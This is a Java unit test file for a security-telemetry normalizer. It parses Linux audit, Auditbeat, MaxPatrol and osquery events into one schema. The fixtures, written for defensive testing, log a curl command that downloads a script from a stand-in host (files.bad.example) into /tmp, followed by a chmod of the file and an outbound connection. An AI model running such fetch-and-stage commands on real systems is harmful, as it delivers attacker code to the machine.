package io.clicktrail.normalizer.linux;

import static org.assertj.core.api.Assertions.assertThat;

import io.clicktrail.event.Event;
import io.clicktrail.event.EventKind;
import io.clicktrail.event.MarkAction;
import io.clicktrail.event.Platform;
import io.clicktrail.normalizer.parse.EventFacts;
import io.clicktrail.normalizer.parse.TestNormalizer;
import org.junit.jupiter.api.Test;

/** The audit system's events as other programs put them together, and osquery's rows. */
public class LinuxJsonTest {

    public static final String LAUREL = """
            {"ID":"1772445605.701:4711","NODE":"lin-7.corp.example","SYSCALL":{"arch":"0xc000003e","syscall":59,\
            "success":"yes","exit":0,"items":2,"ppid":2176,"pid":2221,\
            "auid":1000,"uid":1000,"gid":1000,"euid":1000,"tty":"pts0","ses":8,"comm":"curl","exe":"/usr/bin/curl",\
            "key":"exec","ARCH":"x86_64","SYSCALL":"execve","AUID":"ada","UID":"ada"},\
            "EXECVE":{"argc":4,"ARGV":["curl","-o","/tmp/my report.sh","https://files.bad.example/a"]},\
            "CWD":{"cwd":"/home/ada"},\
            "PATH":[{"item":0,"name":"/usr/bin/curl","nametype":"NORMAL"},{"item":1,\
            "name":"/lib64/ld-linux-x86-64.so.2","nametype":"NORMAL"}],\
            "PROCTITLE":{"ARGV":["curl","-o"]},"PPID":{"EVENT_ID":"1772445600.000:4600","comm":"bash",\
            "exe":"/usr/bin/bash","ppid":2170}}""";

    public static final String AUDITBEAT = """
            {"@timestamp":"2026-03-02T10:00:05.701Z","@metadata":{"beat":"auditbeat"},"agent":{"type":"auditbeat",\
            "hostname":"lin-7.corp.example"},"host":{"name":"lin-7.corp.example","os":{"type":"linux"}},\
            "event":{"module":"auditd","action":"executed","category":["process"],"outcome":"success"},\
            "auditd":{"message_type":"syscall","sequence":4711,"result":"success","session":"8",\
            "data":{"syscall":"execve","arch":"x86_64","exit":"0"},\
            "paths":[{"item":"0","name":"/usr/bin/curl","nametype":"NORMAL"}],"summary":{"how":"/usr/bin/curl"}},\
            "process":{"pid":2221,"parent":{"pid":2176},"name":"curl","executable":"/usr/bin/curl",\
            "working_directory":"/home/ada","args":["curl","-o","/tmp/my report.sh","https://files.bad.example/a"]},\
            "user":{"id":"1000","name":"ada","audit":{"id":"1000","name":"ada"}},"file":{"path":"/usr/bin/curl"}}""";

    public static final String OSQUERY = """
            {"name":"pack_ir_process_events","hostIdentifier":"lin-7.corp.example","calendarTime":"Mon Mar  2 \
            10:00:30 2026 UTC","unixTime":1772445630,"epoch":0,"counter":7,\
            "decorations":{"platform":"ubuntu"},"columns":{"auid":"1000","cmdline":"curl -o /tmp/a \
            https://files.bad.example/a","cwd":"\\"/home/ada\\"","eid":"77","parent":"2176","path":"/usr/bin/curl",\
            "pid":"2221","syscall":"execve","time":"1772445605","uid":"1000"},"action":"added"}""";

    private final TestNormalizer reader = new TestNormalizer();

    @Test
    void readsAProcessStartOfLaurel() {
        assertThat(EventFacts.of(reader.event(LAUREL))).isEqualTo("""
                {"@timestamp":"2026-03-02T10:00:05.701Z","event":{"action":"process_start","code":"execve",\
                "dataset":"linux.auditd"},"host":{"name":"lin-7.corp.example","hostname":"lin-7.corp.example",\
                "domain":"corp.example","os":{"type":"linux"}},"user":{"name":"ada","id":"1000"},\
                "process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"start":"2026-03-02T10:00:05.701Z",\
                "executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/tmp/my report.sh\\" \
                https://files.bad.example/a","working_directory":"/home/ada",\
                "parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176,"executable":"/usr/bin/bash"},\
                "session_id":"8"}}""");
    }

    @Test
    void givesOneIdRawAndPutTogetherByOthers() {
        String id = reader.event(AuditFixtures.EXECVE).getEventId();

        assertThat(reader.event(LAUREL).getEventId()).isEqualTo(id);
        assertThat(reader.event(AUDITBEAT).getEventId()).isEqualTo(id);
    }

    @Test
    void namesOneProcessAlikeRawAndPutTogetherByOthers() {
        String entity = reader.event(AuditFixtures.EXECVE).getProcess().getEntityId();

        assertThat(reader.event(LAUREL).getProcess().getEntityId()).isEqualTo(entity);
        assertThat(reader.event(AUDITBEAT).getProcess().getEntityId()).isEqualTo(entity);
    }

    @Test
    void readsAConnectionAndAFileOfLaurel() {
        String start = "{\"ID\":\"1772445605.802:4712\",\"NODE\":\"lin-7\",\"SYSCALL\":{\"arch\":\"0xc000003e\","
                + "\"syscall\":%d,\"success\":\"yes\",\"a0\":\"0xffffff9c\",\"a2\":\"0x241\",\"pid\":2221,"
                + "\"ppid\":2176,\"auid\":1000,\"ses\":8,\"exe\":\"/usr/bin/curl\"},%s}";
        Event connection = reader.event(start.formatted(
                42,
                "\"SOCKADDR\":{\"saddr_fam\":\"inet\",\"SADDR\":{\"saddr_fam\":\"inet\","
                        + "\"addr\":\"203.0.113.9\",\"port\":443}}"));
        Event file = reader.event(start.formatted(
                257,
                "\"CWD\":{\"cwd\":\"/tmp\"},\"PATH\":[{\"item\":0,\"name\":null,"
                        + "\"nametype\":\"PARENT\"},{\"item\":1,\"name\":\"a.sh\",\"nametype\":\"CREATE\"}]"));

        assertThat(connection.getDestination().getIp()).isEqualTo("203.0.113.9");
        assertThat(connection.getDestination().getPort()).isEqualTo(443);
        assertThat(file.getKind()).isEqualTo(EventKind.FILE_WRITE);
        assertThat(file.getFile().getPath()).isEqualTo("/tmp/a.sh");
    }

    @Test
    void ignoresWhatLaurelLogsWithoutASystemCall() {
        assertThat(reader.ignored("{\"ID\":\"1772445605.802:4713\",\"NODE\":\"lin-7\",\"USER_ACCT\":{\"pid\":1}}")
                        .dataset())
                .isEqualTo("linux.auditd");
    }

    @Test
    void readsAuditEventsOfMaxPatrol() {
        String items = """
                {"eventid":"4715","node":"lin-7.corp.example","timestamp":"1772445606","timestampfractional":"105",\
                "items":{\
                "SYSCALL":["arch=c00000b7 syscall=53 success=yes exit=0 a0=ffffffffffffff9c a1=aaaa a2=1ed a3=0 \
                items=1 ppid=2176 pid=2222 auid=4294967295 uid=0 ses=4294967295 comm=\\"chmod\\" \
                exe=\\"/usr/bin/chmod\\" key=\\"mode\\""],\
                "CWD":["cwd=\\"/tmp\\""],"PATH":["item=0 name=\\"./a.sh\\" inode=80 nametype=NORMAL"],\
                "PROCTITLE":["proctitle=63686D6F64"]}}""";

        assertThat(EventFacts.of(reader.event(items))).isEqualTo(EventFacts.of(reader.event(AuditFixtures.CHMOD)));
        assertThat(reader.event(items).getEventId())
                .isEqualTo(reader.event(AuditFixtures.CHMOD).getEventId());
        assertThat(reader.ignored(items.replace("\"SYSCALL\":", "\"USER_ACCT\":"))
                        .dataset())
                .isEqualTo("linux.auditd");
    }

    @Test
    void readsAuditbeatsProcessStart() {
        assertThat(EventFacts.of(reader.event(AUDITBEAT))).isEqualTo("""
                {"@timestamp":"2026-03-02T10:00:05.701Z","event":{"action":"process_start","code":"execve",\
                "dataset":"auditbeat.auditd"},"host":{"name":"lin-7.corp.example","hostname":"lin-7.corp.example",\
                "domain":"corp.example","os":{"type":"linux"}},"user":{"name":"ada","id":"1000"},\
                "process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"start":"2026-03-02T10:00:05.701Z",\
                "executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/tmp/my report.sh\\" \
                https://files.bad.example/a","working_directory":"/home/ada",\
                "parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176}}}""");
    }

    @Test
    void readsAuditbeatsWatchedFilesConnectionsAndProcesses() {
        String base = "{\"@timestamp\":\"2026-03-02T10:00:05.701Z\",\"agent\":{\"type\":\"auditbeat\"},"
                + "\"host\":{\"name\":\"lin-7\",\"os\":{\"type\":\"linux\"}},%s}";
        Event file = reader.event(base.formatted("\"event\":{\"module\":\"file_integrity\",\"action\":[\"created\","
                + "\"attributes_modified\"]},\"file\":{\"path\":\"/home/ada/a.sh\",\"size\":11,"
                + "\"hash\":{\"sha1\":\"2aae6c35c94fcfb415dbe95f408b9ce91ee846ed\"}}"));
        Event connection = reader.event(base.formatted("\"event\":{\"module\":\"auditd\",\"action\":\"connected-to\"},"
                + "\"auditd\":{\"message_type\":\"syscall\",\"sequence\":1,\"session\":\"8\","
                + "\"data\":{\"syscall\":\"connect\"}},\"process\":{\"pid\":2221,"
                + "\"executable\":\"/usr/bin/curl\"},\"destination\":{\"ip\":\"203.0.113.9\","
                + "\"port\":443}"));
        Event process = reader.event(base.formatted("\"event\":{\"module\":\"system\",\"dataset\":\"process\","
                + "\"action\":\"process_started\"},\"process\":{\"entity_id\":\"x1\",\"pid\":7,"
                + "\"executable\":\"/tmp/a\",\"args\":[\"/tmp/a\"],"
                + "\"start\":\"2026-03-02T10:00:01.000Z\"},\"user\":{\"name\":\"ada\",\"id\":1000}"));

        assertThat(file.getKind()).isEqualTo(EventKind.FILE_WRITE);
        assertThat(file.getFile().getHash().getSha1()).isEqualTo("2aae6c35c94fcfb415dbe95f408b9ce91ee846ed");
        assertThat(connection.getKind()).isEqualTo(EventKind.NETWORK_CONNECTION);
        assertThat(connection.getProcess().getEntityId()).isEqualTo("lin-7:8:2221");
        assertThat(process.getProcess().getEntityId()).isEqualTo("x1");
        assertThat(process.getProcess().getStart()).isEqualTo("2026-03-02T10:00:01Z");
        assertThat(reader.ignored(base.formatted("\"event\":{\"module\":\"file_integrity\","
                                + "\"action\":[\"deleted\"]},\"file\":{\"path\":\"/a\"}"))
                        .dataset())
                .isEqualTo("auditbeat.file-integrity");
    }

    @Test
    void readsAProcessOfOsquery() {
        assertThat(EventFacts.of(reader.event(OSQUERY))).isEqualTo("""
                {"@timestamp":"2026-03-02T10:00:05Z","event":{"action":"process_start","code":"process",\
                "dataset":"osquery.result"},"host":{"name":"lin-7.corp.example","hostname":"lin-7.corp.example",\
                "domain":"corp.example","os":{"type":"linux"}},"user":{"id":"1000"},\
                "process":{"entity_id":"lin-7.corp.example::2221","pid":2221,"start":"2026-03-02T10:00:05Z",\
                "executable":"/usr/bin/curl","name":"curl","command_line":"curl -o /tmp/a \
                https://files.bad.example/a","working_directory":"/home/ada",\
                "parent":{"entity_id":"lin-7.corp.example::2176","pid":2176}}}""");
    }

    @Test
    void readsConnectionsFilesAndQuarantineOfOsquery() {
        String base = "{\"name\":\"q\",\"hostIdentifier\":\"mac-3\",\"unixTime\":1772445630,"
                + "\"decorations\":{\"platform\":\"darwin\"},\"action\":\"added\",\"columns\":{%s}}";
        Event socket = reader.event(base.formatted("\"action\":\"connect\",\"time\":\"1772445605\",\"pid\":\"7\","
                + "\"path\":\"/usr/bin/curl\",\"remote_address\":\"203.0.113.9\","
                + "\"remote_port\":\"443\",\"success\":\"1\""));
        Event file = reader.event(base.formatted("\"action\":\"CREATED\",\"time\":\"1772445605\","
                + "\"target_path\":\"/Users/ada/Downloads/a.dmg\",\"sha256\":\"\",\"size\":\"12\""));
        Event quarantine = reader.event(
                base.formatted("\"LSQuarantineTimeStamp\":\"794138405.7\",\"LSQuarantineAgentName\":\"Safari\","
                        + "\"LSQuarantineDataURLString\":\"https://files.bad.example/x/Invoice.dmg?t=1\","
                        + "\"LSQuarantineOriginURLString\":\"https://mail.example/\""));
        Event attribute =
                reader.event(base.formatted("\"path\":\"/Users/ada/Downloads/a.dmg\",\"key\":\"com.apple.quarantine\","
                        + "\"value\":\"0083;69a55f65;Google\\\\x20Chrome;B555DB5F\",\"base64\":\"0\""));

        assertThat(socket.getKind()).isEqualTo(EventKind.NETWORK_CONNECTION);
        assertThat(file.getFile().getSize()).isEqualTo(12);
        assertThat(file.getHost().getPlatform()).isEqualTo(Platform.MACOS);
        assertThat(quarantine.getTime()).isEqualTo("2026-03-02T10:00:05Z");
        assertThat(quarantine.getFile().getName()).isEqualTo("Invoice.dmg");
        assertThat(quarantine.getFile().getOriginUrl()).isEqualTo("https://files.bad.example/x/Invoice.dmg?t=1");
        assertThat(quarantine.getFile().getOriginReferrerUrl()).isEqualTo("https://mail.example/");
        assertThat(quarantine.getProcess().getName()).isEqualTo("Safari");
        assertThat(attribute.getFile().getMark()).isEqualTo(MarkAction.SET);
        assertThat(attribute.getProcess().getName()).isEqualTo("Google Chrome");
        assertThat(attribute.getTime()).isEqualTo("2026-03-02T09:59:01Z");
    }

    @Test
    void ignoresRowsOfAStateAndRowsThatAreGone() {
        assertThat(reader.ignored(OSQUERY.replace("\"added\"", "\"removed\"")).dataset())
                .isEqualTo("osquery.result");
        assertThat(reader.ignored("{\"hostIdentifier\":\"h\",\"unixTime\":1772445630,"
                                + "\"columns\":{\"name\":\"ufs\",\"status\":\"Live\"},\"action\":\"added\"}")
                        .dataset())
                .isEqualTo("osquery.result");
    }
}
